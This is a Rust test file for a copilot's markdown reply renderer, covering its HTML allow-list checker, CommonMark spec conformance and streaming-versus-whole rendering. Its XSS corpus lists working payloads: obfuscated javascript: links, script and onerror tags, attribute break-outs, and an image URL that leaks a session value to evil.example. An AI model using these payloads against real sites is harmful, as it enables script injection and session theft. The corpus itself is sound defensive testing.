//! The reply renderer's policy and streaming, natively: the CommonMark spec examples, an XSS
//! corpus, and "streaming equals whole" over many chunkings.
#![cfg(not(target_arch = "wasm32"))]

use flowyte_copilot::markdown::{ReplyPolicy, StreamRenderer, render, safe_link};

// ---------------------------------------------------------------------------------------------
// An HTML checker for our own output: every tag is one the renderer may make, with only the
// attributes it may write; links are safe and open safely; no image loads.

const TAGS: &[&str] = &[
    "p",
    "a",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "button",
    "input",
];

fn allowed_attribute(tag: &str, name: &str) -> bool {
    matches!(
        (tag, name),
        ("a", "href" | "title" | "class" | "rel" | "target")
            | ("code" | "th" | "td" | "div" | "button", "class")
            | ("button", "type")
            | ("input", "disabled" | "type" | "checked")
            | ("ol", "start")
            // Scrollers (code blocks, tables) take keyboard focus.
            | ("pre" | "div", "tabindex")
    )
}

fn unescape(value: &str) -> String {
    value
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Panics with `case` when `html` holds anything the policy forbids.
fn check(case: &str, html: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let closing = rest.starts_with('/');
        let body = rest.trim_start_matches('/');
        let name: String = body
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            TAGS.contains(&name.as_str()),
            "{case}: tag <{name}> in {html}"
        );
        let end = body
            .find('>')
            .unwrap_or_else(|| panic!("{case}: unclosed tag in {html}"));
        let mut attrs = body[name.len()..end].trim().trim_end_matches('/').trim();
        assert!(
            !closing || attrs.is_empty(),
            "{case}: attributes on a closing tag"
        );
        let mut href = None;
        let mut rel = false;
        let mut target = false;
        while !attrs.is_empty() {
            let name_end = attrs.find(['=', ' ']).unwrap_or(attrs.len());
            let attr = &attrs[..name_end];
            assert!(
                allowed_attribute(&name, attr),
                "{case}: attribute {attr} on <{name}> in {html}"
            );
            attrs = &attrs[name_end..];
            if let Some(value) = attrs.strip_prefix("=\"") {
                let close = value
                    .find('"')
                    .unwrap_or_else(|| panic!("{case}: unterminated value in {html}"));
                let text = unescape(&value[..close]);
                match attr {
                    "href" => href = Some(text),
                    "rel" => rel = text == "noopener noreferrer nofollow",
                    "target" => target = text == "_blank",
                    _ => {}
                }
                attrs = value[close + 1..].trim_start();
            } else {
                assert!(
                    attrs.is_empty() || attrs.starts_with(' '),
                    "{case}: unquoted value in {html}"
                );
                attrs = attrs.trim_start();
            }
        }
        if name == "a" && !closing {
            let href = href.unwrap_or_else(|| panic!("{case}: <a> without href"));
            let lower = href.to_ascii_lowercase();
            assert!(
                safe_link(&href)
                    && ["http:", "https:", "mailto:"]
                        .iter()
                        .any(|s| lower.starts_with(s)),
                "{case}: executable or unexpected href {href:?}"
            );
            assert!(rel && target, "{case}: link without rel/target in {html}");
        }
        rest = &body[end..];
    }
}

/// Renders `md` whole and streamed (3 bytes at a time), checking every HTML the panel would
/// insert on the way.
fn check_everywhere(case: &str, md: &str) {
    let policy = ReplyPolicy::default();
    check(case, &render(md, &policy));
    let mut stream = StreamRenderer::new(policy);
    for piece in chunks(md, 3) {
        let update = stream.push(&piece);
        for block in &update.finished {
            check(case, block);
        }
        check(case, &update.tail);
    }
    let (_, last) = stream.finish();
    for block in last {
        check(case, &block);
    }
}

fn chunks(text: &str, size: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(size).map(|c| c.iter().collect()).collect()
}

const XSS: &[(&str, &str)] = &[
    ("javascript link", "[x](javascript:alert(1))"),
    ("upper-case scheme", "[x](JAVASCRIPT:alert(1))"),
    ("mixed-case scheme", "[x](JaVaScRiPt:alert(1))"),
    ("hex entity in scheme", "[x](jav&#x61;script:alert(1))"),
    ("decimal entity in scheme", "[x](jav&#97;script:alert(1))"),
    ("named entity colon", "[x](javascript&colon;alert(1))"),
    ("tab entity in scheme", "[x](jav&#x09;ascript:alert(1))"),
    ("newline entity in scheme", "[x](java&#10;script:alert(1))"),
    ("angle-bracket destination", "[x](<javascript:alert(1)>)"),
    (
        "tab inside angle destination",
        "[x](<java\tscript:alert(1)>)",
    ),
    ("percent-encoded scheme", "[x](%6Aavascript:alert(1))"),
    (
        "control char before scheme",
        "[x](\u{1}javascript:alert(1))",
    ),
    ("backslash escape in scheme", "[x](java\\script:alert(1))"),
    ("vbscript", "[x](vbscript:msgbox(1))"),
    (
        "data html",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    ("file", "[x](file:///etc/passwd)"),
    ("autolink javascript", "<javascript:alert(1)>"),
    ("autolink mixed case", "<JaVaScRiPt:alert(document.cookie)>"),
    (
        "autolink with quotes",
        "<http://ok.example/\"onmouseover=\"alert(1)>",
    ),
    ("reference link", "[a][ref]\n\n[ref]: javascript:alert(1)"),
    (
        "shortcut reference",
        "[ref]\n\n[ref]: jav&#x09;ascript:alert(1)",
    ),
    (
        "reference with title",
        "[a][r]\n\n[r]: <javascript:alert(1)> \"t\"",
    ),
    ("reference defined first", "[r]: vbscript:x\n\nSee [it][r]."),
    ("script block", "<script>alert(1)</script>"),
    ("img onerror block", "<img src=x onerror=alert(1)>"),
    (
        "inline span handler",
        "text <span onmouseover=\"alert(1)\">hover</span>",
    ),
    ("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
    ("raw anchor", "<a href=\"javascript:alert(1)\">x</a>"),
    ("style block", "<style>body{display:none}</style>"),
    ("comment then script", "<!-- c --><script>alert(1)</script>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)>"),
    ("multi-line block", "<div\nonclick=alert(1)>x</div>"),
    (
        "image exfiltration",
        "![x](https://evil.example/track.png?session=abc)",
    ),
    ("image javascript", "![x](javascript:alert(1))"),
    (
        "reference image",
        "![x][img]\n\n[img]: https://evil.example/p.gif",
    ),
    ("data image", "![](data:image/svg+xml;base64,PHN2Zz4=)"),
    ("html in alt", "![<script>](https://evil.example/a.png)"),
    (
        "title break-out",
        "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
    ),
    (
        "quote in url",
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
    ),
    (
        "tag in url",
        "[x](https://ok.example/'><script>alert(1)</script>)",
    ),
    ("code span", "`<script>alert(1)</script>`"),
    ("fenced html", "```html\n<script>alert(1)</script>\n```"),
    (
        "info string break-out",
        "```\" onmouseover=\"alert(1)\ncode\n```",
    ),
    (
        "table with html",
        "| <b>a</b> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    ),
    (
        "task list with html",
        "- [ ] <script>task</script>\n- [x] done",
    ),
    ("block quote html", "> <script>alert(1)</script>"),
    ("emphasis around html", "**<script>**alert(1)**</script>**"),
    (
        "html in link text",
        "[<img src=x onerror=alert(1)>](https://ok.example)",
    ),
    (
        "entities stay text",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    (
        "mailto with junk",
        "[mail](mailto:a@b.example?subject=<script>)",
    ),
    ("nul in text", "[x](https://ok.example)\u{0}<script>"),
    ("setext heading with html", "Title <script>\n==="),
    (
        "open link while streaming",
        "see [docs](javascript:alert(1)",
    ),
];

#[test]
fn the_xss_corpus_renders_nothing_executable() {
    assert!(XSS.len() >= 40, "{} cases", XSS.len());
    for (case, md) in XSS {
        check_everywhere(case, md);
    }
    // And the checker itself catches what it must.
    for bad in [
        "<p><script>x</script></p>",
        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">",
        "<p style=\"color:red\">",
        "<a href=\"https://x\">x</a>",
        "<img src=\"https://evil.example/a.png\">",
        "<p onclick=\"x\">",
    ] {
        assert!(
            std::panic::catch_unwind(|| check("self-test", bad)).is_err(),
            "the checker let {bad} through"
        );
    }
}

#[test]
fn safe_links_stay_links() {
    let html = render(
        "[a](https://ok.example) <https://auto.example> [m](MAILTO:x@y.example) [h](HTTP://x.example)",
        &ReplyPolicy::default(),
    );
    assert_eq!(html.matches("<a href=").count(), 4, "{html}");
}

// ---------------------------------------------------------------------------------------------
// The CommonMark spec examples (npm commonmark-spec 0.31.2, installed by scripts/test).

struct Example {
    number: usize,
    section: String,
    markdown: String,
    html: String,
}

fn spec_examples() -> Vec<Example> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/node_modules/commonmark-spec/spec.txt"
    );
    let spec = std::fs::read_to_string(path).unwrap_or_else(|e| {
        panic!("{path}: {e}. scripts/test installs it (npm ci); or run `npm ci` once")
    });
    let fence = "`".repeat(32);
    let mut examples = Vec::new();
    let mut section = String::new();
    let mut lines = spec.lines();
    while let Some(line) = lines.next() {
        if line == "<!-- END TESTS -->" {
            break;
        }
        if let Some(title) = line.strip_prefix('#') {
            section = title.trim_start_matches('#').trim().to_owned();
        }
        if line == format!("{fence} example") {
            let mut markdown = String::new();
            for l in lines.by_ref() {
                if l == "." {
                    break;
                }
                markdown.push_str(l);
                markdown.push('\n');
            }
            let mut html = String::new();
            for l in lines.by_ref() {
                if l == fence {
                    break;
                }
                html.push_str(l);
                html.push('\n');
            }
            examples.push(Example {
                number: examples.len() + 1,
                section: section.clone(),
                markdown: markdown.replace('→', "\t"),
                html: html.replace('→', "\t"),
            });
        }
    }
    examples
}

/// Raw HTML in the input (the policy shows it as text), or a URL the policy does not link
/// (relative, or another scheme), or an image (the policy never loads one): the spec's
/// output is not ours to match.
fn outside_policy(example: &Example) -> bool {
    let md = &example.markdown;
    // `<` opening a tag, a comment or a declaration; autolinks (`<https://…>`, `<a@b.c>`) are
    // not raw HTML, and their URLs face the scheme test below.
    let raw_html = md.char_indices().filter(|&(_, c)| c == '<').any(|(i, _)| {
        let rest = &md[i + 1..];
        rest.starts_with(|n: char| n.is_ascii_alphabetic() || "/!?".contains(n))
            && !is_autolink(rest)
    });
    let unsafe_url = example
        .html
        .split("href=\"")
        .skip(1)
        .any(|rest| !safe_link(&unescape(rest.split('"').next().unwrap_or(""))));
    raw_html || unsafe_url || example.html.contains("<img")
}

/// `rest` (after a `<`) is a CommonMark autolink: `scheme:…>` or `local@domain>`.
fn is_autolink(rest: &str) -> bool {
    let Some(end) = rest.find('>') else {
        return false;
    };
    let inner = &rest[..end];
    if inner.is_empty() || inner.contains(|c: char| c.is_whitespace() || c == '<') {
        return false;
    }
    let scheme_ok = inner.split_once(':').is_some_and(|(scheme, _)| {
        (2..=32).contains(&scheme.len())
            && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c))
    });
    scheme_ok || (inner.contains('@') && !inner.contains(':'))
}

/// Our additions, undone: the link attributes, the code block's copy button and the
/// scrollers' tabindex. And `&quot;`
/// read as `"`: pulldown-cmark leaves quotes in text unescaped where the spec escapes them,
/// which is the same DOM.
fn without_additions(html: &str) -> String {
    // The wrapper took the place of the newline the writer puts before a block.
    let wrapper =
        "<div class=\"code-block\"><button type=\"button\" class=\"copy-code\">Copy</button>\n";
    let html = dequote(html)
        .replace("<pre tabindex=\"0\">", "<pre>")
        .replace(
            "<div class=\"table-scroll\" tabindex=\"0\">",
            "<div class=\"table-scroll\">",
        );
    html.strip_prefix(wrapper)
        .unwrap_or(&html)
        .replace(
            " rel=\"noopener noreferrer nofollow\" target=\"_blank\"",
            "",
        )
        .replace(&format!("\n{wrapper}"), "\n")
        .replace(wrapper, "\n")
        .replace("</pre>\n</div>\n", "</pre>\n")
}

fn dequote(html: &str) -> String {
    html.replace("&quot;", "\"")
}

#[test]
fn commonmark_spec_examples_within_the_policy_render_as_the_spec_says() {
    let examples = spec_examples();
    assert_eq!(examples.len(), 652, "the spec 0.31.2 has 652 examples");
    let mut run = 0;
    let mut failed = Vec::new();
    for example in examples.iter().filter(|e| !outside_policy(e)) {
        run += 1;
        let ours = without_additions(&render(&example.markdown, &ReplyPolicy::default()));
        if ours != dequote(&example.html) {
            failed.push(format!(
                "#{} ({}): {:?}\n  spec: {:?}\n  ours: {:?}",
                example.number, example.section, example.markdown, example.html, ours
            ));
        }
    }
    println!(
        "CommonMark 0.31.2: {run} of {} examples are within the policy; {} pass, {} fail",
        examples.len(),
        run - failed.len(),
        failed.len()
    );
    assert!(
        failed.is_empty(),
        "{} failed:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Streaming equals whole.

fn corpus() -> Vec<String> {
    let mut docs: Vec<String> = [
        "# Title\n\nA paragraph with **bold**, *em*, `code` and [a link](https://x.example).\n\n- one\n- two\n  continued\n\n1. first\n2. second\n\n> quote\nlazy line\n\n---\n\nEnd.",
        "Setext\n===\n\nAnother\n---\n\nText after.",
        "- loose\n\n- list\n\n  with a second paragraph\n\nAfter the list.",
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nAfter the table.",
        "```rust\nfn main() {\n\n    println!(\"hi\");\n}\n```\n\nAfter code.\n\n    indented code\n\nDone.",
        "Use [the guide][g] and [Other].\n\n[g]: https://guide.example \"Guide\"\n[other]: https://other.example",
        "[late] comes first.\n\nMiddle paragraph.\n\n[late]: https://late.example",
        "- [ ] task\n- [x] done\n\n~~struck~~ text\n\nhard  \nbreak and soft\nbreak",
        "<div>\nraw html block\n</div>\n\nand <b>inline</b> html",
        "Tabs\tand  spaces\n\n\n\nmany blank lines\n\n\n",
        "Unicode: café — “quotes” 🎉 and emoji\n\n## ünïcödé heading\n\n* * *",
        "*unclosed emphasis\n\n**also open\n\n`open code\n\n[open link](https://x",
        "1) paren list\n2) second\n\n3. new list\n\n- a\n* b\n+ c",
        "> nested\n> > quote\n> - with list\n\nout",
        "Final block without newline",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    // Every reply the simulator's copilot writes for its documented requests.
    for (request, _) in flowyte_simulator::copilot::EXAMPLES {
        let mut account =
            flowyte_simulator::account::Account::seeded(time::OffsetDateTime::now_utc());
        let scopes = flowyte_simulator::copilot::Scopes(
            flowyte_simulator::ops::ALL_SCOPES
                .iter()
                .map(|s| (*s).to_owned())
                .collect(),
        );
        let turn = flowyte_simulator::copilot::respond(
            &mut account,
            &scopes,
            &flowyte_simulator::copilot::Request {
                message: request,
                agent_id: None,
            },
            time::OffsetDateTime::now_utc(),
        );
        docs.push(turn.reply);
    }
    docs
}

/// Splits at char boundaries, at positions from a small deterministic generator.
fn random_chunks(text: &str, seed: u64) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let n = 1 + (state % 40) as usize;
        let end = (i + n).min(chars.len());
        out.push(chars[i..end].iter().collect());
        i = end;
    }
    out
}

fn streamed(pieces: &[String]) -> (String, usize) {
    let mut stream = StreamRenderer::new(ReplyPolicy::default());
    let mut finished_while_streaming = 0;
    for piece in pieces {
        finished_while_streaming += stream.push(piece).finished.len();
    }
    stream.finish();
    (stream.blocks().concat(), finished_while_streaming)
}

#[test]
fn streaming_in_any_chunks_ends_equal_to_rendering_the_whole() {
    let docs = corpus();
    let mut chunkings = 0;
    let mut finished = 0;
    for doc in &docs {
        let whole = render(doc, &ReplyPolicy::default());
        for size in 1..=17 {
            let (html, n) = streamed(&chunks(doc, size));
            assert_eq!(html, whole, "chunks of {size}: {doc:?}");
            finished += n;
            chunkings += 1;
        }
        for seed in 0..25 {
            let (html, _) = streamed(&random_chunks(doc, seed));
            assert_eq!(html, whole, "seed {seed}: {doc:?}");
            chunkings += 1;
        }
    }
    assert!(finished > 0, "blocks finish while streaming");
    println!(
        "streaming = whole: {} documents × {chunkings} chunkings",
        docs.len()
    );
}

#[test]
fn a_long_reply_keeps_its_finished_blocks_and_re_renders_only_the_tail() {
    let paragraph = "Calls to Support Bot failed when the order lookup timed out. ";
    let mut stream = StreamRenderer::new(ReplyPolicy::default());
    let mut largest_tail = 0;
    let mut text = String::new();
    for i in 0..600 {
        let delta = if i % 20 == 19 {
            "\n\n".to_owned()
        } else {
            paragraph.to_owned()
        };
        text.push_str(&delta);
        let update = stream.push(&delta);
        largest_tail = largest_tail.max(update.tail.len());
    }
    assert!(
        stream.blocks().len() >= 29,
        "{} blocks finished",
        stream.blocks().len()
    );
    assert!(
        largest_tail < 2_000,
        "the tail stays one paragraph: {largest_tail} bytes"
    );
    stream.finish();
    assert_eq!(
        stream.blocks().concat(),
        render(&text, &ReplyPolicy::default())
    );
}

// ---------------------------------------------------------------------------------------------
// The render-reply CLI.

fn render_reply(args: &[&str], stdin: &[u8]) -> std::process::Output {
    use std::io::Write;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_render-reply"))
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // A refused flag exits before reading: a broken pipe here is expected then.
    let _ = child.stdin.take().unwrap().write_all(stdin);
    child.wait_with_output().unwrap()
}

#[test]
fn render_reply_prints_what_the_panel_inserts_whole_or_streamed() {
    let md = "## Numbers\n\n| Number | Agent |\n|---|---|\n| +1 415 555 4421 | Support Bot |\n\n\
              Release it? [Docs](https://docs.flowyte.com) <b>no html</b> — “quotes” é\n";
    let whole = render_reply(&[], md.as_bytes());
    assert!(whole.status.success());
    let expected = render(md, &ReplyPolicy::default());
    assert_eq!(String::from_utf8(whole.stdout).unwrap(), expected);
    // Odd chunk sizes split the multi-byte characters; the result is the same.
    for n in ["1", "2", "3", "7", "64"] {
        let streamed = render_reply(&["--stream", n], md.as_bytes());
        assert!(streamed.status.success());
        assert_eq!(
            String::from_utf8(streamed.stdout).unwrap(),
            expected,
            "--stream {n}"
        );
    }
}

#[test]
fn render_reply_refuses_bad_input_clearly() {
    let not_utf8 = render_reply(&[], b"caf\xe9");
    assert!(!not_utf8.status.success());
    assert!(String::from_utf8_lossy(&not_utf8.stderr).contains("not UTF-8"));
    let bad_flag = render_reply(&["--stream", "0"], b"x");
    assert_eq!(bad_flag.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad_flag.stderr).contains("usage: render-reply"));
}
